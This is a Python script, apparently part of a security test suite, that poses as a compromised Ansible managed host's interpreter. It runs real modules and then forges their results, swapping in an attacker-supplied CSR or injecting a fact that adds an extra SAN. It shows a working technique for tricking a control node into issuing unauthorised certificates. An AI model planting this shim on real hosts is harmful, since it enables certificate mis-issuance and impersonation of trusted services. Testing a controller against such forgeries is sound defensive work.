"""The Python of a compromised managed host: it runs each Ansible module for real, then rewrites the result.

Used as a host's ansible_python_interpreter (through a launcher that names the attack), it shows what the control
node sees when a host lies: a host controls every byte its modules return.

    compromised_python.py forge-csr FILE  ARGS...   returns FILE's content as the CSR of openssl_csr_pipe
    compromised_python.py forge-facts     ARGS...   adds facts that shadow the inventory's SAN variables
"""

import json
import subprocess
import sys


def main():
    attack = sys.argv[1]
    forged_csr = None
    args = sys.argv[2:]
    if attack == "forge-csr":
        with open(args[0], encoding="ascii") as handle:
            forged_csr = handle.read()
        args = args[1:]
    proc = subprocess.run([sys.executable] + args, stdin=sys.stdin, capture_output=True, text=True, check=False)
    sys.stderr.write(proc.stderr)
    try:
        result = json.loads(proc.stdout)
    except ValueError:
        sys.stdout.write(proc.stdout)
        return proc.returncode
    if forged_csr is not None and "csr" in result:
        result["csr"] = forged_csr
    if attack == "forge-facts":
        result.setdefault("ansible_facts", {})["pki_extra_sans"] = ["DNS:controller.mseg.test"]
    sys.stdout.write(json.dumps(result))
    return proc.returncode


if __name__ == "__main__":
    sys.exit(main())
